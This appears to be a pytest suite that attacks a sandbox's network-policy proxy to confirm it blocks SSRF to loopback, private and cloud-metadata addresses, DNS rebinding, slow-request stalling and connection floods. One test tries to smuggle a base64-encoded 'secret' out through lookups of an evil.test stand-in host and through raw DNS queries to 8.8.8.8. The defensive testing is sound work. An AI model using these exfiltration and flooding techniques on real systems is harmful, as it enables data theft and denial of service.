"""What programs try against the gate of a network policy, where the name server answers as they like.

The gate is the same on every runtime: test_network_policy_on_every_runtime.py asks each of them.
"""

from __future__ import annotations

import asyncio
import os
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from functools import partial
from pathlib import Path

import name_server
import pytest
from gate_servers import client_hello, echo_server, web_server
from served import Serving, serve

from flash_sandbox import HTTPClient, Network, Sandbox
from flash_sandbox.orchestrator.runtimes.gvisor.runtime import GvisorRuntime

PROXY = 3128

# Connects to the proxy, sends its input in pieces with pauses, and prints what comes back.
SEND = """
import socket, sys, time
size, pause, ends = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3:]
data = sys.stdin.buffer.read()
with socket.create_connection(("127.0.0.1", 3128), timeout=60) as proxy:
    proxy.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        for at in range(0, len(data), size):
            proxy.sendall(data[at:at + size])
            time.sleep(pause)
        if ends:
            proxy.shutdown(socket.SHUT_WR)
        while got := proxy.recv(65536):
            sys.stdout.buffer.write(got)
    except ConnectionResetError:
        pass
"""

# Asks for as many connections at once as it is told, prints how many are made in the end, and keeps all.
MANY = """
import select, socket, sys, time
authority, count = sys.argv[1], int(sys.argv[2])
ask = f"CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n".encode()
begun, waiting, made = {}, select.poll(), 0
for _ in range(count):
    one = socket.socket()
    one.setblocking(False)
    one.connect_ex(("127.0.0.1", 3128))
    begun[one.fileno()] = one
    waiting.register(one, select.POLLOUT)
while found := waiting.poll(20_000 if made < 128 else 2_000):
    for number, event in found:
        if event & (select.POLLERR | select.POLLHUP):
            waiting.unregister(number)
        elif event & select.POLLOUT:
            begun[number].send(ask)
            waiting.modify(number, select.POLLIN)
        else:
            made += b" 200 " in begun[number].recv(65536)
            waiting.unregister(number)
print(len(begun), made, flush=True)
time.sleep(600)
"""

# Has as many connections made to a host as it is told, prints how many were made, and keeps them.
TUNNELS = """
import socket, sys, time
authority, count = sys.argv[1], int(sys.argv[2])
held = []
for _ in range(count):
    one = socket.create_connection(("127.0.0.1", 3128))
    one.sendall(f"CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n".encode())
    if b" 200 " in one.recv(65536):
        held.append(one)
print(len(held), flush=True)
time.sleep(600)
"""


class Gate:
    """An orchestrator that asks the tests' name server, and its sandboxes with policies."""

    def __init__(self, serving: Serving, client: HTTPClient, names: name_server.NameServer) -> None:
        self.serving, self.client, self.names = serving, client, names

    def resident_bytes(self) -> int:
        """Return how much memory the orchestrator holds (proc(5), statm)."""
        pages = int(Path(f"/proc/{self.serving.process.pid}/statm").read_text().split()[1])
        return pages * os.sysconf("SC_PAGE_SIZE")

    @contextmanager
    def sandbox(self, *allow: str, deny: tuple[str, ...] = (), type: str = "bubblewrap") -> Iterator[Inside]:
        network = Network(allow, deny)
        with Sandbox.create(type=type, network=network, memory_mb=512, client=self.client) as sandbox:
            yield Inside(sandbox)


class Inside:
    """A sandbox with a policy."""

    def __init__(self, sandbox: Sandbox) -> None:
        self.sandbox = sandbox

    def send(self, data: bytes, *, size: int = 1 << 20, pause: float = 0.0, end: bool = False) -> bytes:
        """Send this to the proxy in pieces of a size, with pauses; return what comes back."""
        command = ["python3", "-c", SEND, str(size), str(pause), *(["end"] if end else [])]
        return self.sandbox.run(command, stdin=data, check=True, limit=90).stdout_bytes

    def get(self, authority: str) -> bytes:
        """Ask the proxy for a page of a host, and return its whole answer."""
        return self.send(
            f"GET http://{authority}/ HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n".encode()
        )


@pytest.fixture(scope="module")
def gate(limits: str, need: Callable[..., None], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gate]:
    """Run an orchestrator whose operator allows 127.0.0.1, where a policy names it, and nothing else."""
    need("root", name_server.missing())
    directory = tmp_path_factory.mktemp("gate")
    with name_server.name_server() as names:
        command = name_server.asking(names, directory, sys.executable, "-W", "error")
        environment = {"DOCKER_HOST": "unix:///nowhere/docker.sock"}
        with (
            serve(
                directory / "state", "--allow-network=127.0.0.1/32", limits=limits,
                environment=environment, command=command,
            ) as serving,
            serving.client("http") as client,
        ):  # fmt: skip
            yield Gate(serving, client, names)


@pytest.fixture(scope="module")
def web() -> Iterator[int]:
    with web_server() as port:
        yield port


ADDRESSES: Mapping[str, str] = {
    "loopback": "127.0.0.1",
    "loopback-elsewhere": "127.0.0.2",
    "this-host": "0.0.0.0",
    "six": "::1",
    "mapped": "::ffff:127.0.0.1",
    "compatible": "::127.0.0.1",
    "translated": "64:ff9b::127.0.0.1",
    "six-to-four": "2002:7f00:1::1",
    "private": "10.0.0.1",
    "metadata": "169.254.169.254",
    "metadata-of-ipv6": "fd00:ec2::254",
    "link-local": "fe80::1",
}


@pytest.mark.parametrize("name", ADDRESSES)
def test_a_name_of_the_programs_own_leads_nowhere_but_to_the_internet(
    gate: Gate, web: int, name: str
) -> None:
    gate.names.says(f"{name}.test", ADDRESSES[name])
    with gate.sandbox(f"*.test:{web}") as inside:
        answer = inside.get(f"{name}.test:{web}")
    assert answer.startswith(b"HTTP/1.1 403 ")
    assert b"its address is not public" in answer


def test_a_name_that_changes_between_check_and_connection_leads_nowhere_else(gate: Gate) -> None:
    with (
        socket.create_server(("127.0.0.1", 0)) as allowed,
        socket.create_server(("127.0.0.2", allowed.getsockname()[1])) as other,
    ):
        port = allowed.getsockname()[1]
        other.setblocking(False)
        thread = threading.Thread(target=_answer_all, args=(allowed,))
        thread.start()
        gate.names.says("rebound.test", "127.0.0.1", "127.0.0.2")
        asked = len(gate.names.asked)
        with gate.sandbox(f"rebound.test:{port}", f"127.0.0.1:{port}") as inside:
            answers = [inside.get(f"rebound.test:{port}") for _ in range(8)]
        with socket.create_connection(("127.0.0.1", port)) as last:
            last.sendall(b"end")
        thread.join()
        with pytest.raises(BlockingIOError):
            other.accept()
    # Each is asked for once, and the answer to that is what it is connected to.
    assert gate.names.asked[asked:] == ["rebound.test"] * 8
    assert [answer.split(b" ", 2)[1] for answer in answers] == [b"200", b"403"] * 4


def _answer_all(listening: socket.socket) -> None:
    while True:
        with listening.accept()[0] as connection:
            if connection.recv(65536) == b"end":
                return
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")


def test_names_carry_nothing_out(gate: Gate) -> None:
    """Neither those that are not allowed, nor those that are until something connects."""
    asked = len(gate.names.asked)
    with gate.sandbox("*.allowed.test", deny=("*.denied.test",)) as inside:
        looked_up = inside.sandbox.run("getent ahosts c2VjcmV0.evil.test; getent ahosts c2.allowed.test")
        assert looked_up.stdout.startswith("127.64.")
        question = b"\0\1\1\0\0\1" + bytes(6) + b"\6secret\4evil\4test\0\0\x10\0\1"
        script = (
            "import socket, sys; s = socket.socket(2, 2); s.settimeout(20); s.connect((sys.argv[1], 53))\n"
            "s.send(bytes.fromhex(sys.argv[2])); print(s.recv(512)[3] & 15)"
        )
        ask = ["python3", "-c", script]
        assert inside.sandbox.run([*ask, "127.0.0.1", question.hex()], check=True).stdout == "3\n"
        for server in (gate.names.address, "8.8.8.8"):
            assert inside.sandbox.run([*ask, server, question.hex()]).exit_code != 0
        for name in ("secret.evil.test", "secret.denied.test"):
            assert b" 403 " in inside.get(name)
    assert gate.names.asked[asked:] == []


@pytest.fixture(scope="module")
def inside(gate: Gate, web: int) -> Iterator[Inside]:
    """A sandbox that may reach the web server by one name."""
    gate.names.says("slow.test", "127.0.0.1")
    with gate.sandbox(f"slow.test:{web}", f"127.0.0.1:{web}") as inside:
        yield inside


class TestSlowPrograms:
    """They get no further by being slow, and nobody else is held up."""

    @pytest.mark.parametrize(("host", "status"), [("slow.test", b"200"), ("other.test", b"403")])
    def test_head_byte_by_byte(self, inside: Inside, web: int, host: str, status: bytes) -> None:
        head = f"GET http://slow.test:{web}/ HTTP/1.1\r\nHost: {host}:{web}\r\nConnection: close\r\n\r\n"
        assert inside.send(head.encode(), size=1, pause=0.002).split(b" ", 2)[1] == status

    @pytest.mark.parametrize("named", ["slow.test", "other.test"])
    def test_tls_byte_by_byte(self, gate: Gate, named: str) -> None:
        gate.names.says("slow.test", "127.0.0.1")
        hello = client_hello(named)
        with echo_server() as port, gate.sandbox(f"slow.test:{port}", f"127.0.0.1:{port}") as inside:
            connect = f"CONNECT slow.test:{port} HTTP/1.1\r\nHost: slow.test:{port}\r\n\r\n".encode()
            answer = inside.send(connect + hello, size=1, pause=0.002, end=True)
        assert answer.endswith(hello) == (named == "slow.test")

    def test_slow_upload_is_carried_and_holds_up_nobody(self, inside: Inside, web: int) -> None:
        body = bytes(400)
        head = f"POST http://slow.test:{web}/ HTTP/1.1\r\nHost: slow.test:{web}\r\nContent-Length: 400\r\n"
        request = f"{head}Connection: close\r\n\r\n".encode() + body
        with ThreadPoolExecutor(1) as pool:
            slow = pool.submit(inside.send, request, size=4, pause=0.02)
            assert b" 200 " in inside.get(f"slow.test:{web}")
            assert not slow.done()
            answer = slow.result()
        assert answer.rpartition(b"\r\n\r\n")[2].startswith(b"400 ")

    @pytest.mark.timeout(120)
    def test_what_never_says_whom_it_is_for_ends(self, inside: Inside, web: int) -> None:
        hello = client_hello("slow.test")
        connect = f"CONNECT slow.test:{web} HTTP/1.1\r\nHost: slow.test:{web}\r\n\r\n".encode()
        began = time.monotonic()
        with ThreadPoolExecutor(4) as pool:
            ended = pool.map(
                inside.send, (b"GET http://slow.te", b"\5\1", connect + hello[:50], connect + b"GE")
            )
            assert b" 200 " in inside.get(f"slow.test:{web}")
            assert all(b"hello" not in answer for answer in ended)
        assert 25 < time.monotonic() - began < 90


class TestFloods:
    @pytest.mark.parametrize("type", ["bubblewrap", "gvisor"])
    def test_ten_thousand_connections(
        self, gate: Gate, type: str, need: Callable[..., None], tmp_path: Path
    ) -> None:
        """As many are made as one sandbox may have; the others wait there, and cost nobody else."""
        if type == "gvisor":
            found = asyncio.run(GvisorRuntime(tmp_path).check())
            need("gvisor", None if found.available else found.detail)
        gate.names.says("flooded.test", "127.0.0.1")
        with echo_server() as port, ExitStack() as stack:
            host = f"flooded.test:{port}"
            connect = f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() + b"\0"
            inside, other = (
                stack.enter_context(gate.sandbox(host, f"127.0.0.1:{port}", type=type)) for _ in range(2)
            )
            before = gate.resident_bytes()
            process = inside.sandbox.commands.start(["python3", "-c", MANY, host, "10000"])
            numbers = next(frame.data for frame in process if frame.data).split()
            assert numbers == [b"10000", b"128"]
            began = time.monotonic()
            assert b" 200 " in other.send(connect, end=True)
            assert time.monotonic() - began < 10
            assert gate.resident_bytes() - before < 64 * 1024 * 1024
            process.kill()
            process.wait()
            assert b" 200 " in inside.send(connect, end=True)

    def test_connections_of_all_sandboxes_leave_descriptors_for_everybody_else(
        self, limits: str, tmp_path: Path
    ) -> None:
        narrow = ["sh", "-c", 'ulimit -n 400 && exec "$0" "$@"', sys.executable, "-W", "error"]
        environment = {"DOCKER_HOST": "unix:///nowhere/docker.sock"}
        resolve = "--resolve=flooded.test=127.0.0.1"
        with (
            echo_server() as port,
            serve(
                tmp_path / "state", resolve, limits=limits, environment=environment, command=narrow
            ) as serving,
            serving.client("http") as client,
            ExitStack() as stack,
        ):
            start = partial(
                Sandbox.create, type="bubblewrap", network=Network([f"flooded.test:{port}"]), client=client
            )
            command = ["python3", "-c", TUNNELS, f"flooded.test:{port}", "60"]
            floods = [stack.enter_context(start()).commands.start(command) for _ in range(4)]
            made = [int(next(frame.data for frame in flood if frame.data)) for flood in floods]
            assert sum(made) == 100
            with start() as other:
                connect = f"CONNECT flooded.test:{port} HTTP/1.1\r\nHost: flooded.test:{port}\r\n\r\n"
                answer = Inside(other).send(connect.encode(), end=True)
                assert b"cannot be reached: sandboxes have too many connections" in answer
                floods[0].kill()
                floods[0].wait()
                assert b" 200 " in Inside(other).send(connect.encode() + b"\0", end=True)

    def test_a_thousand_refusals_are_told_some(self, gate: Gate) -> None:
        script = (
            "import socket\n"
            "for number in range(1000):\n"
            "    with socket.create_connection(('127.0.0.1', 3128)) as proxy:\n"
            "        host = b'%d.test' % number\n"
            "        proxy.sendall(b'\\5\\1\\0\\5\\1\\0\\3' + bytes([len(host)]) + host + b'\\0\\x50')\n"
            "        assert proxy.makefile('rb').read()[:4] == b'\\5\\0\\5\\2'\n"
        )
        with gate.client.watch_events() as events, gate.sandbox("flooded.test") as inside:
            inside.sandbox.run(["python3", "-c", script], check=True)
            inside.sandbox.pause()
            inside.sandbox.resume()
            told = []
            for event in events:
                if event.id == inside.sandbox.id and event.type == "paused":
                    break
                told.append(event.type)
        assert 1 <= told.count("network_refused") <= 60
